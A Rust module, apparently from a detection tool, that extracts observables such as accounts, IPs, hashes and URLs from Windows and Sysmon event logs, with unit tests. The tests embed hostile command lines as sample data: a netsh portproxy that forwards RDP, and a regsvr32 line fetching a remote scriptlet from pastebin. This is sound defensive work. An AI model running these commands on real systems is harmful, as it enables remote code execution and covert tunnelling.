//! Observables of an event as the detection matcher sees it before a Sigma
//! rule turns it into an alert: flat, its fields named as the Windows logs
//! name them (`Image`, `TargetUserName`, `CommandLine`), or as ECS names
//! them (`host.name`, `process.command_line`) when a shipper renamed them.

use serde_json::Value;

use super::fields::{Observables, text};
use crate::observable::ObservableKind as K;

/// `DOMAIN\user` when the event names the domain apart.
fn account(ev: &Value, user: &str, domain: &str) -> Option<String> {
    let u = text(ev, user).filter(|u| u != "-")?;
    Some(match text(ev, domain).filter(|d| d != "-") {
        Some(d) if !u.contains('\\') => format!("{d}\\{u}"),
        _ => u,
    })
}

/// Every observable of a flat event, in normal form, each field read as
/// what its name says it holds; command lines and script blocks are free
/// text, read with [`crate::extract::extract`]. Loopback and other
/// addresses that name no host are left out, and spellings of one path or
/// account are one observable (see [`Observables`]).
pub fn event_observables(ev: &Value) -> Vec<(K, String)> {
    let mut obs = Observables::default();
    obs.add_host(text(ev, "Computer").or_else(|| text(ev, "host.name")));
    obs.add(K::UserAccount, account(ev, "TargetUserName", "TargetDomainName"));
    obs.add(K::UserAccount, account(ev, "SubjectUserName", "SubjectDomainName"));
    obs.add(K::UserAccount, text(ev, "User"));
    obs.add(K::UserAccount, account(ev, "user.name", "user.domain"));
    for f in ["IpAddress", "SourceIp", "DestinationIp", "source.ip", "destination.ip"] {
        obs.add(K::Ip, text(ev, f));
    }
    for f in ["WorkstationName", "SourceHostname", "DestinationHostname"] {
        obs.add_host(text(ev, f));
    }
    obs.add(K::Domain, text(ev, "QueryName").or_else(|| text(ev, "dns.question.name")));
    // A process image is both the process (by its name) and a file on disk.
    if let Some(image) = text(ev, "Image").or_else(|| text(ev, "process.executable")) {
        obs.add(K::Process, image.rsplit(['\\', '/']).next().map(str::to_owned));
        obs.add(K::FilePath, Some(image));
    }
    obs.add(K::FilePath, text(ev, "TargetFilename"));
    obs.add(K::FilePath, text(ev, "ImageLoaded"));
    obs.add(K::RegistryKey, text(ev, "TargetObject"));
    // Sysmon's list (`SHA1=…,MD5=…,SHA256=…,IMPHASH=…`); the import hash is
    // not the file's hash.
    if let Some(list) = text(ev, "Hashes") {
        for part in list.split(',') {
            if let Some((algorithm, hash)) = part.split_once('=')
                && matches!(algorithm.trim().to_ascii_uppercase().as_str(), "MD5" | "SHA1" | "SHA256")
            {
                obs.add_hash(Some(hash.to_owned()));
            }
        }
    }
    // The BITS client names the URL a job transfers.
    obs.add(K::Url, text(ev, "url").filter(|u| u.contains("://")));
    for f in ["CommandLine", "process.command_line", "ScriptBlockText"] {
        obs.add_text(text(ev, f));
    }
    obs.into_pairs()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn pairs(ev: Value) -> Vec<(&'static str, String)> {
        event_observables(&ev).into_iter().map(|(k, v)| (k.as_str(), v)).collect()
    }

    #[test]
    fn urls_and_addresses_in_a_command_line_are_read() {
        let got = pairs(json!({
            "Computer": "IEWIN7",
            "Image": "C:\\Windows\\System32\\netsh.exe",
            "CommandLine": "netsh  I p a v l=8001 listena=1.2.3.4 connectp=3389 c=1.2.3.5",
        }));
        assert!(got.contains(&("ip", "1.2.3.4".into())) && got.contains(&("ip", "1.2.3.5".into())), "{got:?}");
        let got = pairs(json!({ "CommandLine": "regsvr32.exe  /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll" }));
        assert_eq!(got, [("url", "http://pastebin.com/raw/H4A4iDTA".to_owned())]);
    }

    #[test]
    fn loopback_logons_and_dashes_name_no_one() {
        let got = pairs(json!({ "IpAddress": "127.0.0.1", "SubjectUserName": "-", "SubjectDomainName": "-" }));
        assert!(got.is_empty(), "{got:?}");
    }

    #[test]
    fn a_bad_hash_is_left_out_rather_than_refusing_the_alert() {
        let got = pairs(json!({ "Hashes": "SHA256=not-a-hash,MD5=A3F446F1E2B8C6ECE56F608FB32B8DC6" }));
        assert_eq!(got, [("md5", "a3f446f1e2b8c6ece56f608fb32b8dc6".to_owned())]);
    }
}
